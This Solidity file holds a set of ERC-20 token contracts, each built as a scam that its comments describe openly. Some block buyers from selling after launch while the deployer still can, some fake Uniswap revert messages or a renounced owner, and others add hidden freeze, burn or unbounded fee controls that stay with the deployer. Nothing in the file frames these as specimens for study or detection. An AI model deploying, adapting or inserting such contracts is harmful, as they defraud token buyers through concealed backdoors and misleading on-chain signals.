// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20, Ownable, Listed} from "./Base.sol";

/// Per-account "rules": rule 1 freezes the account's outgoing transfers.
contract RulebookToken is ERC20, Ownable {
    mapping(address => uint8) private _rules;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(_msgSender(), supply);
    }

    function setRule(address account, uint8 rule) external onlyOwner {
        _rules[account] = rule;
    }

    function _beforeTokenTransfer(address from, address, uint256) internal view override {
        require(_rules[from] != 1, "rule violation");
    }
}

/// "Maintenance mode" stops every transfer but the maintainer's; ownership is renounced, the
/// maintainer stays.
contract MaintenanceToken is ERC20, Ownable {
    uint256 public version = 1;
    bool public maintenance;
    address private _maintainer;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _maintainer = _msgSender();
        _mint(_msgSender(), supply);
    }

    function toggleMaintenance() external {
        require(_msgSender() == _maintainer, "maintainer only");
        maintenance = !maintenance;
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal view override {
        if (maintenance) require(from == _maintainer || to == _maintainer, "under maintenance");
    }
}

/// A sell cap the owner "configures" after launch.
contract ThrottleToken is ERC20, Ownable, Listed {
    uint256 private _maxSell = type(uint256).max;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _mint(_msgSender(), supply);
    }

    function configure(uint256 maxSell) external onlyOwner {
        _maxSell = maxSell;
    }

    function _beforeTokenTransfer(address from, address to, uint256 amount) internal view override {
        if (to == uniswapV2Pair && from != owner()) require(amount <= _maxSell, "exceeds limit");
    }
}

/// "Protocol parameters": burn and treasury shares of every trade, with no ceiling.
contract ParameterToken is ERC20, Ownable, Listed {
    uint16 public burnBps = 100;
    uint16 public treasuryBps = 100;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _mint(_msgSender(), supply);
    }

    function setProtocolParameters(uint16 burnBps_, uint16 treasuryBps_) external onlyOwner {
        burnBps = burnBps_;
        treasuryBps = treasuryBps_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        bool trade = from == uniswapV2Pair || to == uniswapV2Pair;
        if (trade && from != owner() && to != owner()) {
            uint256 burned = (amount * burnBps) / 10_000;
            uint256 kept = (amount * treasuryBps) / 10_000;
            if (burned + kept > amount) burned = amount - kept;
            if (burned > 0) _burn(from, burned);
            if (kept > 0) super._transfer(from, owner(), kept);
            amount -= burned + kept;
        }
        super._transfer(from, to, amount);
    }
}

/// Sells work for two days, then only the deployer can sell. Ownership is renounced at launch.
contract HourglassToken is ERC20, Ownable, Listed {
    uint256 private immutable _armedAt;
    address private immutable _deployer;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _armedAt = block.timestamp + 2 days;
        _deployer = _msgSender();
        _mint(_msgSender(), supply);
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal view override {
        if (to == uniswapV2Pair && from != _deployer && block.timestamp > _armedAt)
            revert("TransferHelper: TRANSFER_FROM_FAILED");
    }
}

/// Only holders with a sell quota can sell; nobody but the deployer has one. The revert reason
/// imitates the pair's.
contract QuotaToken is ERC20, Ownable, Listed {
    mapping(address => uint256) private _quota;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _quota[_msgSender()] = type(uint256).max;
        _mint(_msgSender(), supply);
    }

    function _beforeTokenTransfer(address from, address to, uint256 amount) internal view override {
        if (to == uniswapV2Pair) require(_quota[from] >= amount, "UniswapV2: K");
    }
}

/// "manualSync" marks accounts whose transfers then revert: used on the buyers after launch.
contract SyncToken is ERC20, Ownable {
    mapping(address => bool) private _pendingSync;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(_msgSender(), supply);
    }

    function manualSync(address[] calldata accounts) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; i++) _pendingSync[accounts[i]] = true;
    }

    function _beforeTokenTransfer(address from, address, uint256) internal view override {
        require(!_pendingSync[from], "sync pending");
    }
}

/// Guardians "protect" the market by freezing accounts; the deployer stays a guardian after the
/// renounce.
contract SentinelToken is ERC20, Ownable {
    mapping(address => bool) private _guardians;
    mapping(address => bool) private _protected;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _guardians[_msgSender()] = true;
        _mint(_msgSender(), supply);
    }

    function protect(address account, bool on) external {
        require(_guardians[_msgSender()], "guardian only");
        _protected[account] = on;
    }

    function _beforeTokenTransfer(address from, address, uint256) internal view override {
        require(!_protected[from], "protected");
    }
}

/// An "anti-sniper shield" inherited from a module: at level 2 and up, only its keeper sells.
abstract contract SniperShield {
    uint8 internal _shieldLevel;
    address internal _shieldKeeper;
    address internal _shieldPair;

    function updateShield(uint8 level) external {
        require(msg.sender == _shieldKeeper, "keeper only");
        _shieldLevel = level;
    }

    function _shieldCheck(address from, address to) internal view {
        if (_shieldLevel >= 2 && to == _shieldPair && from != _shieldKeeper) revert("shielded");
    }
}

contract BastionToken is ERC20, Ownable, Listed, SniperShield {
    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _shieldKeeper = _msgSender();
        _shieldPair = uniswapV2Pair;
        _mint(_msgSender(), supply);
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal view override {
        _shieldCheck(from, to);
    }
}

/// owner() always answers the zero address, so the token looks renounced; the developer sets
/// the trade fees, without a ceiling.
contract PhantomToken is ERC20, Listed {
    address private _dev;
    uint256 public buyFeeBps = 100;
    uint256 public sellFeeBps = 100;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _dev = _msgSender();
        _mint(_msgSender(), supply);
    }

    function owner() external pure returns (address) {
        return address(0);
    }

    function setFees(uint256 buyBps, uint256 sellBps) external {
        require(_msgSender() == _dev, "dev only");
        buyFeeBps = buyBps;
        sellFeeBps = sellBps;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 feeBps = from == uniswapV2Pair ? buyFeeBps : to == uniswapV2Pair ? sellFeeBps : 0;
        if (feeBps > 0 && from != _dev && to != _dev) {
            uint256 fee = (amount * feeBps) / 10_000;
            if (fee > amount) fee = amount;
            super._transfer(from, _dev, fee);
            amount -= fee;
        }
        super._transfer(from, to, amount);
    }
}

/// A per-wallet cooldown between a buy and a sell, zero at launch, that the owner can stretch.
contract PatienceToken is ERC20, Ownable, Listed {
    uint256 public cooldown;
    mapping(address => uint256) private _lastBuy;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        ERC20(name_, symbol_)
        Listed(router)
    {
        _mint(_msgSender(), supply);
    }

    function setCooldown(uint256 seconds_) external onlyOwner {
        cooldown = seconds_;
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal override {
        if (from == uniswapV2Pair) _lastBuy[to] = block.timestamp;
        if (to == uniswapV2Pair && from != owner()) require(block.timestamp >= _lastBuy[from] + cooldown, "cooldown");
    }
}

/// One admin entry point multiplexes everything: 1 mints, 2 burns a holder's tokens, 3 freezes.
contract ConsoleToken is ERC20, Ownable {
    mapping(address => bool) private _frozen;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(_msgSender(), supply);
    }

    function execute(uint8 op, address account, uint256 amount) external onlyOwner {
        if (op == 1) _mint(account, amount);
        else if (op == 2) _burn(account, amount);
        else if (op == 3) _frozen[account] = true;
        else revert("unknown op");
    }

    function _beforeTokenTransfer(address from, address, uint256) internal view override {
        require(!_frozen[from], "frozen");
    }
}
